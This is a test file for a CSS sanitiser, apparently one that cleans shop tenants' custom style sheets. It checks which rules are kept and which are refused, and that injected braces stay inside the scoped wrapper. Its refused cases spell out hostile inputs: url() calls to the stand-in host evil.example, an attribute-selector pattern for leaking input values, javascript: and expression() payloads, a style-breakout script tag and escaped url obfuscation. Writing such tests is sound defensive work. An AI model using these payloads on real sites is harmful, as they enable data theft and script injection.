// A shop's own style sheet: what is kept of it, what is refused, and that nothing hostile gets through, however it is written.
import { describe, expect, test } from "bun:test"
import { cleanCss } from "../../../tenants/looks/css.ts"

const HASH = "a".repeat(64)
const inside = (css: string) => /^main\{contain:paint\}\n@scope \(main\)\{\n([\s\S]*)\n\}\n$/.exec(css)?.[1]
const kept = (typed: string) => inside(cleanCss(typed).css)?.replace(/\s+/g, " ") ?? ""
const reasons = (typed: string): string[] => cleanCss(typed).refused.map(({ reason }) => reason)

describe("what is kept", () => {
  test.each([
    [".card { color: red }", ".card { color: red; }"],
    ["h2::before { content: '★ '; color: var(--accent) }", 'h2:before { content: "★ "; color: var(--accent); }'],
    ["@media (max-width: 600px) { .hero { padding: 1rem } }", "@media (width <= 600px) { .hero { padding: 1rem; } }"],
    [".a { background: linear-gradient(red, blue) }", ".a { background: linear-gradient(red, #00f); }"],
    [`.a { background-image: url(/media/${HASH}/800.webp) }`, `.a { background-image: url("/media/${HASH}/800.webp"); }`],
    [".a:has(> img) { width: calc(100% - 2rem) }", ".a:has( > img) { width: calc(100% - 2rem); }"],
    [".a { position: relative; z-index: 3; transform: rotate(2deg) }", ".a { z-index: 3; position: relative; transform: rotate(2deg); }"],
  ])("%s", (typed, expected) => {
    expect(cleanCss(typed).refused).toEqual([])
    expect(
      kept(typed)
        .replace(/:has\(\s*>/, ":has( >")
        .replace(/url\("?([^")]+)"?\)/, 'url("$1")'),
    ).toBe(expected)
  })

  test("nothing typed is nothing written", () => {
    expect(cleanCss("  \n")).toEqual({ css: "", refused: [] })
  })

  test("the rest of a rule stays when one line of it is refused", () => {
    expect(kept(".a { color: red; behavior: url(x.htc); margin: 0 }")).toBe(".a { color: red; margin: 0; }")
  })
})

describe("what is refused, and told", () => {
  test.each([
    ['@import "https://evil.example/x.css";', "rule"],
    ["@font-face { font-family: x; src: url(https://evil.example/x.woff2) }", "rule"],
    ["@keyframes x { from { color: red } }", "rule"],
    ["@namespace url(http://www.w3.org/1999/xhtml);", "rule"],
    ["@layer base { .a { color: red } }", "rule"],
    ["@page { margin: 0 }", "rule"],
    ["@property --x { syntax: '*'; inherits: false }", "rule"],
    ["@supports (display: grid) { .a { color: red } }", "rule"],
    ["@scope (body) { .a { color: red } }", "rule"],
    ["@unheard-of { .a { color: red } }", "rule"],
    [".a { .b { color: red } }", "nested"],
    [".a { :not(&) { color: red } }", "nested"],
    [".a { position: fixed }", "place"],
    [".a { position: sticky }", "place"],
    [".a { position: absolute }", "place"],
    [".a { position: fixed !important }", "place"],
    [".a { position: var(--p) }", "place"],
    [".a { z-index: 2147483647 }", "place"],
    [".a { z-index: calc(1000 * 1000) }", "place"],
    [".a { background: url(https://evil.example/?x) }", "address"],
    [".a { background: url(//evil.example/x) }", "address"],
    [".a { background: url(data:image/svg+xml,<svg/>) }", "address"],
    [".a { background: url(javascript:alert(1)) }", "unreadable"],
    [".a { background: url('javascript:alert(1)') }", "address"],
    [".a { background: URL('https://evil.example/x') }", "address"],
    [".a { background: u\\72l(https://evil.example/x) }", "address"],
    [".a { background-image: url(/media/../api/session) }", "address"],
    [`.a { background-image: url(/media/${HASH}.webp?x=1) }`, "address"],
    ['.a { background-image: image-set("https://evil.example/x" 1x) }', "function"],
    ['.a { background-image: -webkit-image-set(url("https://evil.example/x") 1x) }', "function"],
    ["input[value^=a] { background: url(https://evil.example/a) }", "address"],
    [".a { content: attr(data-secret) }", "function"],
    [".a { color: var(--x, attr(y)) }", "function"],
    [".a { width: expression(alert(1)) }", "function"],
    [".a { width: env(safe-area-inset-top) }", "function"],
    [".a { background: element(#x) }", "function"],
    [".a { background: cross-fade(url(https://evil.example/x), red) }", "function"],
    [".a { behavior: url(x.htc) }", "property"],
    [".a { -moz-binding: url(x.xml#y) }", "property"],
    [".a { --x: url(https://evil.example/x) }", "property"],
    [".a { --accent: red }", "property"],
    [".a { all: unset }", "property"],
    [".a { animation: x 1s infinite }", "property"],
    [".a { cursor: url(https://evil.example/x), auto }", "property"],
    [".a { mask-image: url(https://evil.example/x) }", "property"],
    [".a { list-style-image: url(https://evil.example/x) }", "property"],
    [".a { border-image: url(https://evil.example/x) 1 }", "property"],
    [".a { pointer-events: none }", "property"],
    [".a { content: '</style><script>alert(1)</script>' }", "text"],
    [".a { color red }", "unreadable"],
  ])("%s", (typed, reason) => {
    expect(reasons(typed)).toContain(reason)
    const { css } = cleanCss(`${typed}\n.fine { color: green }`)
    expect(css).not.toMatch(/evil|javascript|data:|<|fixed|sticky|absolute|attr\(|expression|@import|@font-face|htc|url\(/i)
  })

  test("the line is that of the rule", () => {
    const typed = ".a { color: red }\n\n.b {\n  color: blue;\n  position: fixed;\n}\n@font-face { font-family: x }"
    expect(cleanCss(typed).refused.map(({ line, what }) => [line, what])).toEqual([
      [3, "position: fixed"],
      [7, "@font-face"],
    ])
  })
})

describe("what tries to get out", () => {
  test.each([
    ".a { color: red } } body { display: none }",
    ".a { color: red; } } } html { background: red }",
    "} :root { --x: 1 } {",
    '.a { content: "\\"; } body { display: none } /*" }',
    ".a { color: red /* } body { display: none } */ }",
    ".a { color: red",
    "<!-- .a { color: red } -->",
    "\u0000.a { color: red }",
    "\ud800.a { color: red }",
    ".a { color: red } @scope (main) { } body { color: red }",
  ])("%j stays between its braces", (typed) => {
    const { css } = cleanCss(typed)
    const bare = css.replace(/"(?:[^"\\]|\\.)*"/g, '""')
    const scope = bare.slice(bare.indexOf("@scope"))
    let depth = 0
    const ends = [...scope].flatMap((sign, index) => {
      if (sign === "{") depth += 1
      if (sign === "}") depth -= 1
      return sign === "}" && depth === 0 ? [index] : []
    })
    // The wrapper closes at the very end and not before.
    expect(ends).toEqual(css === "" ? [] : [scope.trimEnd().length - 1])
    expect(depth).toBe(0)
  })

  test("ten thousand open brackets, and a sheet of nothing but signs, are an answer and no crash", () => {
    for (const sign of ["{", "(", "[", ".a{", ":not("]) expect(cleanCss(sign.repeat(10_000)).css).toBe("")
    expect(cleanCss("\\".repeat(20_000)).css).toBe("")
  })

  test("a thousand sheets made of hostile parts leave nothing hostile", () => {
    const parts = [
      "url(//e.x)",
      "@import",
      "position",
      ":",
      "fixed",
      ";",
      "{",
      "}",
      "(",
      ")",
      "\\",
      '"',
      "'",
      "/*",
      "*/",
      "attr(x)",
      "</style>",
    ]
    const more = [".a", "color", "red", "image-set(", "\\75rl(", "!important", "\n", ",", "@media all", "content", "--x", "&", ":is("]
    let seed = 7
    const random = (most: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648
      return seed % most
    }
    const all = [...parts, ...more]
    for (let round = 0; round < 1_000; round += 1) {
      const typed = Array.from({ length: 5 + random(40) }, () => all[random(all.length)]).join(random(2) ? " " : "")
      const bare = cleanCss(typed).css.replace(/"(?:[^"\\]|\\.)*"/g, '""')
      expect([typed, /url\(|@import|fixed|attr\(|<\/style|image-set/i.test(bare)]).toEqual([typed, false])
    }
  })
})
